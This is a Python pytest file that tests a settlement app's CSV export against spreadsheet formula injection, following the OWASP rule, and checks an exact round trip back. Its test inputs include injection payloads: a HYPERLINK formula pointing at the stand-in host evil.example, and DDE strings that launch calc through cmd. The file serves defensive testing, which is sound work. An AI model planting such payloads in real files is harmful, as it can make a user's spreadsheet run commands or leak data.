"""CSV cells a spreadsheet shows as text: the OWASP rule, and the exact round trip back."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.domain.months import Month
from app.domain.spreadsheet_cells import escape_cell, escape_row, unescape_cell
from app.settlement.bank_file import SettlementLine
from app.settlement.csv_file import csv_header, csv_record, read_csv_file


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?x","click")',
            '\'=HYPERLINK("http://evil.example/?x","click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # looks escaped already: escaped again, so it reads back as it was
        ("-12.50", "-12.50"),  # a plain number is no formula
        ("+66", "+66"),
        ("นางสมหญิง ใจดี", "นางสมหญิง ใจดี"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (40, "40"),
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(value: object, cell: str) -> None:
    assert escape_cell(value) == cell


def test_a_row_is_escaped_cell_by_cell() -> None:
    assert escape_row(["=1", None, 7, "ok"]) == ["'=1", "", "7", "ok"]


@given(st.text())
def test_unescape_gives_back_exactly_what_was_escaped(text: str) -> None:
    cell = escape_cell(text)
    assert unescape_cell(cell) == text
    # Only a plain number (+0, -12.50) may keep its sign: a spreadsheet reads it as the number.
    runs = cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not runs or re.fullmatch(r"[+-]?\d+(?:\.\d+)?", cell, flags=re.ASCII)


def test_a_settlement_file_escapes_its_cells_and_reads_them_back_exactly() -> None:
    line = SettlementLine(
        line_no=2, partner_txn_id="=cmd|'/C calc'!A0", national_id="3100600445635",
        section=40, months=(Month.parse("2026-01"),), amount_satang=10000, paid_at=None,
        name="@SUM(1+1)*cmd", store_id="S-1", terminal_id="-T",
    )  # fmt: skip
    data = csv_header() + csv_record(line)
    row = next(csv.DictReader(io.StringIO(data.decode())))
    assert (row["partner_txn_id"], row["name"], row["terminal_id"]) == (
        "'=cmd|'/C calc'!A0", "'@SUM(1+1)*cmd", "'-T")  # fmt: skip
    [read] = read_csv_file(data.splitlines(keepends=True))
    assert (read.partner_txn_id, read.name, read.terminal_id) == (
        "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd", "-T")  # fmt: skip
